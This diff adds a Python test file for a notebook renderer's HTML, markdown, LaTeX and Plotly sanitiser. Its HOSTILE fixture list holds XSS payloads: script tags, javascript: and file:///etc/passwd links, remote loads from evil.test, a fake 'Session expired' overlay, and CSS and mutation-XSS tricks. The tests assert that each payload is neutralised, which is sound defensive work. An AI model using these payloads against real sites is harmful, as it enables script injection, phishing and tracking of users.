@@ -1,0 +1,430 @@
+"""What is shown in a trusted output holds nothing alive: no script, nothing that loads, nothing that covers the page.
+
+`assert_harmless` is the judge: it reads HTML as a browser would and knows what is allowed, not what is forbidden.
+"""
+
+import html
+import json
+import re
+from collections.abc import Callable
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from codeagent_nb.events import BlockFinishedEvent, BlockOutputEvent, BlockStartedEvent, LateOutputEvent
+from codeagent_nb.rendering.bundle import CELLS_LIMIT, TAGS_LIMIT, TEXT_SHOWN, clean_html, harmless_bundle
+from codeagent_nb.rendering.changes import ShownOutputs
+from codeagent_nb.rendering.html import HIGHLIGHT_LIMIT, LEXERS, code_html, markdown_html, text_html
+from kernel_executor import Append, BlockResult, Clear, CodeBlock, Update
+
+
+def names(text: str) -> set[str]:
+    return set(re.findall(r"[\w-]+", text))
+
+
+TAGS = names(
+    "a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col colgroup data dd del"
+    " details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li map mark"
+    " nav ol p pre q rp rt rtc ruby s samp small span strike strong sub summary sup table tbody td th thead time tr tt"
+    " u ul var wbr"
+)
+ATTRIBUTES = names(
+    "align alt char charoff class colspan datetime dir headers height href hreflang rel rowspan scope size span src"
+    " start style summary target title width"
+)
+CLASSES = {"dataframe", "mathjax_ignore", "tex2jax_ignore"}
+PROPERTIES = names(
+    "background background-color border border-collapse border-radius color font-family font-size font-style"
+    " font-weight height line-height margin max-width overflow-wrap overflow-x padding text-align text-decoration"
+    " vertical-align white-space width"
+)
+
+
+class Judge(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.text: list[str] = []
+        self.tags: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        self.tags.append(tag)
+        for name, value in attrs:
+            assert name in ATTRIBUTES, name
+            getattr(self, f"judge_{name}", lambda _: None)(value or "")
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        pytest.fail(f"a comment: {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        pytest.fail(f"a declaration: {decl}")
+
+    handle_pi = unknown_decl = handle_decl
+
+    def judge_href(self, value: str) -> None:
+        scheme = re.match(r"[a-z][a-z0-9+.-]*:", re.sub(r"[\x00-\x20]", "", value).lower())
+        assert scheme is None or scheme[0] in {"http:", "https:", "mailto:"}, value
+
+    def judge_src(self, value: str) -> None:
+        assert value.strip().lower().startswith("data:image/"), value
+
+    def judge_class(self, value: str) -> None:
+        assert set(value.split()) <= CLASSES, value
+
+    def judge_style(self, value: str) -> None:
+        assert not re.search(r"url|expression|[\\@{}<>\"']|/\*", value, re.IGNORECASE), value
+        for declaration in filter(None, value.split(";")):
+            assert declaration.partition(":")[0].strip().lower() in PROPERTIES, declaration
+
+
+def judged(text: str) -> Judge:
+    judge = Judge()
+    judge.feed(text)
+    judge.close()
+    return judge
+
+
+def assert_harmless(text: str) -> str:
+    """Return the text that is seen."""
+    return "".join(judged(text).text)
+
+
+def display(metadata: Any = None, **data: Any) -> dict[str, Any]:
+    mimes = {name.replace("__", "/").replace("_", "+"): content for name, content in data.items()}
+    return {"output_type": "display_data", "data": mimes, "metadata": metadata or {}}
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.test></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='http://evil.test/pixel.png'>",
+    "<img srcset='http://evil.test/x 2x' src='data:text/html,x'>",
+    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:1'>x</a></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:1'></object><embed src='x.swf'>",
+    "<form action='http://evil.test'><input autofocus onfocus=alert(1)><button formaction=javascript:1>x</form>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test'><base href='http://evil.test/'>",
+    "<link rel=stylesheet href='http://evil.test/x.css'><style>@import 'http://evil.test';body{display:none}</style>",
+    "<a href='javascript:alert(1)'>x</a><a href='JaVa\tScRiPt:alert(1)'>x</a><a href=' &#1;javascript:alert(1)'>x</a>",
+    "<a href='da\nta:text/html,<script>alert(1)</script>'>x</a><a href='\x01data:text/html,x'>x</a>",
+    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='vscode://x'>x</a><a href='blob:x'>x</a>",
+    "<blockquote cite='javascript:1'>x</blockquote><q cite='da&#9;ta:x'>x</q>",
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Session expired</div>",
+    "<div style='background:url(http://evil.test);behavior:url(x);-moz-binding:url(x)'>x</div>",
+    "<div style='width:expression(alert(1));color:red\\;position:fixed;background-image:image-set(\"x\" 1x)'>x</div>",
+    "<div style='color:red/*;*/;margin:-999px;transform:scale(99)'>x</div>",
+    "<div class='jp-Dialog lm-Widget' id='main' name='x' data-commandlinker-command='x' contenteditable>x</div>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template><textarea><script>1</script></textarea><xmp><b onclick=1></xmp>",
+    "<!--><script>alert(1)</script>--><![CDATA[<script>]]><?xml <script>?><!DOCTYPE x>",
+    "<style>#T_x{position:fixed;color:red}</style><b id=\"T_x\" onclick='1'>x</b>",
+    '<style>#T_x{a:\'}</style><b id="T_x">x</b><style>#T_y{color:red" onclick="alert(1)}</style><b id="T_y">x</b>',
+    "</pre></code></details></div><script>alert(1)</script>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details><video src=x onerror=1><audio autoplay src=x>",
+    "<b\x00 onclick=1>x</b><a\x0chref=javascript:1>x</a><img/src=x/onerror=1>",
+    "[x](javascript:alert(1)) [x](JAVASCRIPT&colon;alert(1)) [x](<java&#9;script:1>) [x](vscode://x) [x](file:///x)",
+    "[x](data:text/html,x) [x](data:image/svg+xml;base64,AA) [x]( &#1;javascript:1) [x](\\javascript:1)",
+    '![x](http://evil.test/pixel.png) ![<script>](javascript:1 "\'><script>")',
+    "[x][1] [1]\n\n[1]: javascript:alert(1) \"'onmouseover='alert(1)\"\n",
+    '<javascript:alert(1)> <https://evil.test/?"onclick=alert(1)> <data:text/html,x>',
+    '```"><script>alert(1)</script>\nx\n```\n~~~ {onclick=1}\n</code></pre><script>1</script>\n~~~',
+    "| <b onclick=1> | [x](javascript:1) |\n|:-:|--|\n| `<script>` | ![x](http://evil.test) |",
+    "$\\href{javascript:alert(1)}{x}$ \\(\\href{javascript:1}{x}\\)",
+    "> > > 1. - <script>\n\n    <script>alert(1)</script>\n\n&lt;script&gt; &#60;script&#62; \\<script>",
+]
+snippets = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=20), max_size=4).map("".join)
+broken = st.tuples(st.sampled_from(HOSTILE), st.integers(0, 200), st.integers(0, 200)).map(
+    lambda t: t[0][t[1] :][: t[2]]
+)
+words = st.sampled_from(re.findall(r"[\w:-]+|\W", "".join(HOSTILE)))
+hostile = snippets | broken | st.lists(words, max_size=25).map("".join) | st.text()
+
+
+@pytest.mark.parametrize("render", [markdown_html, clean_html, text_html, lambda text: code_html(text, "python")])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_alive_comes_through(render: Callable[[str], str], text: str) -> None:
+    assert_harmless(render(text))
+
+
+@settings(deadline=None, max_examples=300)
+@given(hostile)
+def test_nothing_alive_comes_through_however_it_is_cut_and_mixed(text: str) -> None:
+    for rendered in (markdown_html(text), clean_html(text), text_html(text), code_html(text, "bash")):
+        assert_harmless(rendered)
+
+
+MIMES = [
+    *("text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "application/json"),
+    *("application/javascript", "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json"),
+    *("application/vnd.vegalite.v5+json", "application/geo+json", "application/pdf", "text/html ", "TEXT/HTML", "x"),
+]
+ALLOWED = {
+    *("text/plain", "text/html", "text/latex", "image/png", "application/json", "application/vnd.plotly.v1+json"),
+}
+contents = st.recursive(
+    hostile | st.none() | st.booleans() | st.integers() | st.floats(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=6,
+)
+
+
+@settings(deadline=None, max_examples=200)
+@given(
+    st.dictionaries(st.sampled_from(MIMES), contents, max_size=4),
+    st.dictionaries(st.sampled_from([*MIMES, "isolated"]), contents, max_size=3) | st.text(max_size=3),
+)
+def test_a_display_of_any_shape_is_harmless(data: Any, metadata: Any) -> None:
+    shown, sizes = harmless_bundle({"output_type": "display_data", "data": data, "metadata": metadata})
+    assert shown.keys() <= ALLOWED
+    assert_harmless(shown.get("text/html", ""))
+    assert sizes.keys() <= {"image/png"}
+    json.dumps([shown, sizes]).encode()
+
+
+# Markdown and code
+
+
+def test_html_in_markdown_is_shown_as_it_was_written() -> None:
+    assert assert_harmless(markdown_html("a <b onclick=x>c</b> & d")) == "a <b onclick=x>c</b> & d\n"
+
+
+def test_markdown_is_rendered() -> None:
+    rendered = markdown_html("# T\n\n**b** ~~s~~ `c`\n\n- one\n\n| a |\n|--:|\n| 1 |\n\n[l](https://x.test/?a=1&b=2)")
+    assert {"h1", "strong", "s", "code", "ul", "table", "th", "td", "a"} <= set(judged(rendered).tags)
+    assert '<td style="text-align:right">1</td>' in rendered
+    link = '<a href="https://x.test/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">l</a>'
+    assert link in rendered
+
+
+def test_pictures_are_named_and_not_loaded() -> None:
+    assert markdown_html("![a plot](http://x.test/p.png)") == "<p><em>[a plot]</em></p>\n"
+    assert markdown_html("![](http://x.test/p.png)") == "<p><em>[http://x.test/p.png]</em></p>\n"
+
+
+def test_money_is_not_typeset_as_a_formula() -> None:
+    rendered = markdown_html("from $5 to $10, with $x$")
+    assert assert_harmless(rendered) == "from $5 to $10, with $x$\n"
+    assert rendered.count('<span class="mathjax_ignore">$</span>') == 2
+
+
+@pytest.mark.parametrize("language", [*LEXERS, "unheard-of", "lilypond", "console", '"><script>'])
+@pytest.mark.parametrize("code", ["no end of line", "x = '<b>&'  # \"c\"\n\ndef f(): ...\n", "\tif\n  é\n"])
+def test_code_is_shown_whole_in_every_language(language: str, code: str) -> None:
+    assert assert_harmless(code_html(code, language)).rstrip() == code.rstrip()
+
+
+@given(
+    st.text(alphabet=st.characters(exclude_characters="\r\x00", exclude_categories=["Cs"])), st.sampled_from([*LEXERS])
+)
+def test_any_code_is_shown_whole(code: str, language: str) -> None:
+    assert html.unescape(re.sub("<[^>]*>", "", code_html(code, language))).rstrip() == code.rstrip()
+
+
+def test_python_is_highlighted_in_the_colours_of_the_notebook() -> None:
+    rendered = code_html("def f(): return 'x'", "python")
+    assert '<b style="color:var(--jp-mirror-editor-keyword-color,#008000)">def</b>' in rendered
+    assert "<b" not in code_html("#" * (HIGHLIGHT_LIMIT + 1), "python")
+
+
+# Outputs
+
+
+def test_text_is_shown_and_long_text_is_cut() -> None:
+    stream = {"output_type": "stream", "name": "stdout", "text": "<b>x</b>\n"}
+    assert harmless_bundle(stream) == ({"text/plain": "<b>x</b>\n"}, {})
+    (shown, _) = harmless_bundle(display(text__plain=["x" * 30_000, "y"]))
+    assert len(shown["text/plain"]) < TEXT_SHOWN + 100
+    assert "characters left out" in shown["text/plain"]
+
+
+def test_an_error_is_told_otherwise() -> None:
+    assert harmless_bundle({"output_type": "error", "ename": "E", "evalue": "", "traceback": []}) == ({}, {})
+
+
+def test_a_dataframe_stays_a_table() -> None:
+    pandas = pytest.importorskip("pandas")
+    frame = pandas.DataFrame({"a": [1, 2], "<b>": ["x<script>", "costs $5"]})
+    cleaned = clean_html(frame._repr_html_())
+    judge = judged(cleaned)
+    assert '<table class="dataframe">' in cleaned
+    assert (judge.tags.count("th"), judge.tags.count("td")) == (5, 4)
+    assert {"<b>", "x<script>", "costs $5"} <= set(judge.text)
+    assert 'style="text-align: right"' in cleaned
+    assert '<div class="mathjax_ignore tex2jax_ignore">' in cleaned  # or dollars in it would be a formula
+
+
+def test_a_styled_dataframe_keeps_its_colours() -> None:
+    pandas = pytest.importorskip("pandas")
+    pytest.importorskip("jinja2")
+    styled = pandas.DataFrame({"a": [1, 2]}).style.map(
+        lambda value: f"background-color: {'red' if value > 1 else 'lime'}"
+    )
+    cleaned = clean_html(styled.bar(subset=["a"], color="blue").set_caption("c").to_html())
+    assert_harmless(cleaned)
+    assert '<td style="background-color: lime' in cleaned
+    assert "linear-gradient(90deg, blue 100.0%, transparent 100.0%)" in cleaned
+
+
+def test_an_embedded_picture_stays_and_a_linked_one_does_not() -> None:
+    assert '<img src="data:image/png;base64,AA==" width="10">' in clean_html(
+        '<img src="data:image/png;base64,AA==" width=10 onload=x>'
+    )
+    assert "evil" not in clean_html('x <img src="//evil.test/x.png">')
+
+
+def test_what_shows_nothing_gives_way_to_text() -> None:
+    script = display(text__html="<div><script>plot()</script></div>", text__plain="<Figure>")
+    assert harmless_bundle(script) == ({"text/plain": "<Figure>"}, {})
+
+
+@pytest.mark.parametrize("text", ["<div>" * (TAGS_LIMIT + 1), "<td>" * (CELLS_LIMIT + 1)])
+def test_html_that_would_take_long_to_clean_is_left_out(text: str) -> None:
+    assert clean_html(f"{text}x") == ""
+
+
+def test_a_thousand_rows_of_twenty_columns_are_still_shown() -> None:
+    row = "<tr>" + "<td>1</td>" * 20 + "</tr>"
+    assert clean_html(f"<table>{row * 1_000}</table>").count("<td>") == 20_000
+
+
+def test_markdown_and_svg_are_shown_as_html_unless_there_is_a_picture_or_html() -> None:
+    markdown, _ = harmless_bundle(display(text__markdown="**b** <script>"))
+    assert markdown["text/html"] == "<p><strong>b</strong> &lt;script&gt;</p>\n"
+    svg, _ = harmless_bundle(display(image__svg_xml="<svg onload='alert(1)'/>"))
+    assert list(svg) == ["text/html"]
+    assert judged(svg["text/html"]).tags == ["img"]
+    both, _ = harmless_bundle(display(image__svg_xml="<svg/>", image__png="AA=="))
+    assert list(both) == ["image/png"]
+
+
+def test_latex_with_a_link_or_an_attribute_is_left_out() -> None:
+    assert harmless_bundle(display(text__latex=["$x", "^2$"]))[0] == {"text/latex": "$x^2$"}
+    for command in (
+        r"\href{javascript:1}{x}",
+        r"\mmlToken{mi}[href='javascript:1']{x}",
+        r"\csname href\endcsname{x}{y}",
+    ):
+        assert harmless_bundle(display(text__latex=command))[0] == {}
+
+
+def test_pictures_keep_a_size_that_makes_sense_and_nothing_else() -> None:
+    size = {"image/png": {"width": 300, "height": 200.5, "isolated": True, "unconfined": True}, "isolated": True}
+    assert harmless_bundle(display(size, image__png="AA=="))[1] == {"image/png": {"width": 300, "height": 200.5}}
+    for nonsense in ({"width": -1}, {"width": "1px"}, {"height": True}, {"width": 1e9}, "wide", None, [1]):
+        assert harmless_bundle(display({"image/png": nonsense}, image__png="AA=="))[1] == {}
+
+
+PLOTLY = "application/vnd.plotly.v1+json"
+
+
+def plotly(figure: Any) -> Any:
+    shown, _ = harmless_bundle({"output_type": "display_data", "data": {PLOTLY: figure}, "metadata": {}})
+    return shown.get(PLOTLY)
+
+
+def test_a_plotly_figure_is_shown_without_its_configuration() -> None:
+    figure = {
+        "data": [{"type": "bar", "x": ["a: b", "1/2"], "y": [1.5]}],
+        "layout": {"title": {"text": "Sales: <b>x</b>"}},
+    }
+    assert plotly({**figure, "config": {"plotlyServerURL": "https://evil.test"}}) == figure
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        *(
+            "https://evil.test/x.png",
+            "//evil.test/x",
+            "\\\\evil.test\\x",
+            " ht\ntps:evil.test",
+            "\x01https:evil",
+            "/logout",
+        ),
+        *("../logout", "mapbox://x", "<a href='http://x.test'>x</a>", "data:text/html,x"),
+    ],
+)
+def test_a_plotly_figure_with_an_address_in_it_is_left_out(address: str) -> None:
+    assert plotly({"data": [], "layout": {"images": [{"source": address}]}}) is None
+    assert plotly({"data": [], "layout": {"updatemenus": [{"buttons": [{"args": [{address: 1}]}]}]}}) is None
+
+
+def test_a_plotly_figure_may_hold_an_embedded_picture() -> None:
+    figure = {"data": [{"type": "image", "source": "data:image/png;base64,//8="}], "layout": {}}
+    assert plotly(figure) == figure
+
+
+@pytest.mark.parametrize("figure", ["{}", [1], None, 1.5])
+def test_a_plotly_figure_of_another_type_is_left_out(figure: Any) -> None:
+    assert plotly(figure) is None
+
+
+def test_half_a_character_is_replaced() -> None:
+    shown, _ = harmless_bundle(
+        display(text__html="<b>\ud800</b>", text__plain=["\ud800"], application__json={"\ud800": 1})
+    )
+    json.dumps(shown, ensure_ascii=False).encode()
+
+
+# Which outputs have changed
+
+
+def stream(text: str) -> dict[str, Any]:
+    return {"output_type": "stream", "name": "stdout", "text": text}
+
+
+def began(block_id: str = "1") -> BlockStartedEvent:
+    return BlockStartedEvent(source="x", retry_attempt=0, block_id=block_id, block=CodeBlock("x"))
+
+
+def showed(change: Any, kind: Any = BlockOutputEvent, block_id: str = "1") -> Any:
+    return kind(source="x", block_id=block_id, change=change)
+
+
+def ended(*outputs: Any, block_id: str = "1") -> BlockFinishedEvent:
+    result = BlockResult(block=CodeBlock("x"), status="ok", exit_code=0, outputs=outputs)
+    return BlockFinishedEvent(source="x", retry_attempt=0, block_id=block_id, result=result)
+
+
+def news(outputs: ShownOutputs, *events: Any) -> list[tuple[str, Any]]:
+    for event in events:
+        outputs.take(event)
+    return [(key, output and output.get("text", output.get("data"))) for key, output in outputs.news()]
+
+
+def test_only_what_changed_is_news() -> None:
+    outputs = ShownOutputs()
+    assert news(outputs, began(), showed(Append(stream("10 %\r")))) == [("1-0", "10 %")]
+    assert news(outputs, showed(Append(stream("20 %")))) == [("1-0", "20 %")]
+    assert news(outputs, showed(Append(display(text__plain="x")))) == [("1-1", {"text/plain": "x"})]
+    assert news(outputs) == []
+    assert news(outputs, showed(Clear(wait=True))) == []
+    assert news(outputs, showed(Append(stream("new")))) == [("1-0", "new"), ("1-1", None)]
+    assert news(outputs, ended(stream("new"))) == []
+
+
+def test_what_the_limits_held_back_comes_at_the_end() -> None:
+    outputs = ShownOutputs()
+    news(outputs, began(), showed(Append(stream("head"))))
+    assert news(outputs, ended(stream("head\n[... 9 characters left out ...]\ntail")))[0][1].endswith("tail")
+
+
+def test_a_block_whose_beginning_was_missed_is_shown_when_it_ends() -> None:
+    assert news(ShownOutputs(), showed(Append(stream("lost"))), ended(stream("all"))) == [("1-0", "all")]
+
+
+def test_a_thread_may_update_a_display_after_its_block() -> None:
+    outputs = ShownOutputs()
+    first = display(text__plain="0 %")
+    news(outputs, began(), showed(Append(first, "bar")), ended(first), began("2"), ended(stream("other"), block_id="2"))
+    later = showed(Update("bar", {"text/plain": "100 %"}, {}), LateOutputEvent)
+    assert news(outputs, later) == [("1-0", {"text/plain": "100 %"})]
+    assert news(outputs, showed(Append(stream("late")), LateOutputEvent)) == [("1-1", "late")]
